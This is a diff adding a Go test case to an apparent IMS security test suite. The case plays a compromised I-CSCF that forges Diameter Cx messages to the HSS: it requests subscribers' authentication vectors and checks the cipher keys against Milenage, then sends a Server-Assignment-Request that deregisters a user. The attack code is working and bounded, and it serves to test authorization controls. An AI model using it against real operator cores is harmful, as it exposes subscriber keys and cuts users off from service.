@@ -1,0 +1,156 @@
+package attack
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"fmt"
+	"time"
+
+	"imsafe/proto/aka"
+	"imsafe/proto/diameter"
+	"imsafe/secure"
+)
+
+// diameterForge: a node of the core asks the HSS for what its function has no business with.
+func diameterForge() Attack {
+	controls := []secure.ControlID{secure.CoreAuthorizationRole}
+	return Attack{
+		ID: "core.diameter.forge", Number: "CX-02", Title: "a broken-in I-CSCF speaks as an S-CSCF to the HSS",
+		Text:     "whoever gets into one node of the core, the one that strangers reach first, has the vectors of every subscriber and moves their registrations",
+		Services: []Service{Integrity, Confidentiality}, Stride: Elevation, Threats: []Threat{Corruption, Disclosure}, Module: ServicesControl,
+		Source: "TS 29.228 6.1.1, 6.1.2, 6.3", Access: []Access{Cx},
+		Bounds: Bounds{Packets: 40, Bytes: 60_000, Conns: 1, Time: 3 * time.Second},
+		Variants: []Variant{
+			{Name: "vectors", Position: CoreNode, Controls: controls, Run: fetchesVectors},
+			{Name: "assignment", Position: CoreNode, Controls: controls, Run: takesUserAway},
+		},
+	}
+}
+
+// Values of Server-Assignment-Type and of User-Data-Already-Available (TS 29.229 6.3.15, 6.3.26).
+const (
+	userDeregistration = 5
+	dataNotAvailable   = 0
+)
+
+// interrogating connects with the certificate of a node that has an I-CSCF and nothing else.
+func (f *Field) interrogating(ctx context.Context) (*shLine, error) {
+	if f.position != CoreNode {
+		return nil, errPosition
+	}
+	return f.diameterPeer(ctx, f.attacker, f.Cx, diameter.AppCx, &f.ICSCF)
+}
+
+// fetchesVectors asks for vectors of four subscribers, five times each.
+func fetchesVectors(ctx context.Context, f *Field, o *Outcome) error {
+	line, err := f.interrogating(ctx)
+	if err != nil {
+		return err
+	}
+	defer func() { _ = line.conn.Close() }()
+	if _, err := line.servedBy(f.Users[Alice]); err != nil {
+		return err
+	}
+	o.Arrived("what an I-CSCF may ask is answered")
+	const times = 5
+	var asked []*User
+	var requests []*diameter.Writer
+	for range times {
+		for _, name := range []string{Alice, Bob, Carol, Mallory} {
+			w := line.vectorsOf(f.Users[name])
+			requests, asked = append(requests, &w), append(asked, f.Users[name])
+		}
+	}
+	answers, err := line.ask(requests...)
+	if err != nil {
+		return err
+	}
+	genuine := 0
+	for i, a := range answers {
+		if a.vectorOf(asked[i]) {
+			genuine++
+		}
+	}
+	o.Users = min(genuine, 4)
+	o.Wire(genuine > 0, "%d requests for vectors are answered %s: %d vectors of subscribers", len(answers), answered(answers), genuine)
+	return nil
+}
+
+// vectorsOf makes a MAR (TS 29.229 6.1.7).
+func (l *shLine) vectorsOf(u *User) diameter.Writer {
+	w := l.begin(diameter.MAR, diameter.AppCx, diameter.FlagProxiable)
+	w.Text(diameter.DestinationRealm, l.f.Domain)
+	w.Text(diameter.UserName, u.IMPI)
+	w.Text(diameter.PublicIdentity, u.IMPU)
+	w.Open(diameter.SIPAuthDataItem)
+	w.Text(diameter.SIPAuthenticationScheme, "Digest-AKAv1-MD5")
+	w.Close()
+	w.Unsigned32(diameter.SIPNumberAuthItems, 1)
+	w.Text(diameter.ServerName, "sip:scscf."+l.f.Domain)
+	return w
+}
+
+// vectorOf reports whether the answer has the cipher key that the card of u would compute from the challenge with it.
+func (a *shAnswer) vectorOf(u *User) bool {
+	item, _ := a.avps.Find(diameter.SIPAuthDataItem)
+	challenge, _ := item.Group().Find(diameter.SIPAuthenticate)
+	key, there := item.Group().Find(diameter.ConfidentialityKey)
+	if !there || len(challenge.Data) < len(aka.RAND{}) {
+		return false
+	}
+	_, ck, _, _ := aka.NewMilenage(u.K, u.OPc).F2345(aka.RAND(challenge.Data[:len(aka.RAND{})]))
+	return bytes.Equal(key.Data, ck[:])
+}
+
+// servedBy asks with a LIR which S-CSCF has a user (TS 29.229 6.1.5).
+func (l *shLine) servedBy(u *User) (string, error) {
+	w := l.begin(diameter.LIR, diameter.AppCx, diameter.FlagProxiable)
+	w.Text(diameter.DestinationRealm, l.f.Domain)
+	w.Text(diameter.PublicIdentity, u.IMPU)
+	answers, err := l.ask(&w)
+	if err != nil {
+		return "", err
+	}
+	name := answers[0].avps.Text(diameter.ServerName)
+	if name == "" {
+		return "", fmt.Errorf("attack: the HSS does not say who serves %s: %s", u.Name, answered(answers))
+	}
+	return name, nil
+}
+
+// takesUserAway tells the HSS in the name of alice's S-CSCF that she has gone.
+func takesUserAway(ctx context.Context, f *Field, o *Outcome) error {
+	line, err := f.interrogating(ctx)
+	if err != nil {
+		return err
+	}
+	defer func() { _ = line.conn.Close() }()
+	server, err := line.servedBy(f.Users[Alice])
+	if err != nil {
+		return err
+	}
+	o.Arrived("what an I-CSCF may ask is answered: alice is at %s", server)
+	w := line.begin(diameter.SAR, diameter.AppCx, diameter.FlagProxiable)
+	w.Text(diameter.DestinationRealm, f.Domain)
+	w.Text(diameter.UserName, f.Users[Alice].IMPI)
+	w.Text(diameter.PublicIdentity, f.Users[Alice].IMPU)
+	w.Text(diameter.ServerName, server)
+	w.Enumerated(diameter.ServerAssignmentType, userDeregistration)
+	w.Enumerated(diameter.UserDataAlreadyAvailable, dataNotAvailable)
+	answers, err := line.ask(&w)
+	if err != nil {
+		return err
+	}
+	_, gone := line.servedBy(f.Users[Alice])
+	reached := f.Bob.Reaches(ctx, f.Alice, f.token())
+	if reached != nil && errors.Is(ctx.Err(), context.DeadlineExceeded) {
+		return reached
+	}
+	if gone != nil {
+		o.Users = 1
+	}
+	o.Wire(gone != nil, "the assignment is answered %s; the HSS still knows who serves alice: %v", answered(answers), gone == nil)
+	o.Peer(reached != nil, "bob reaches alice: %v", reached == nil)
+	return nil
+}
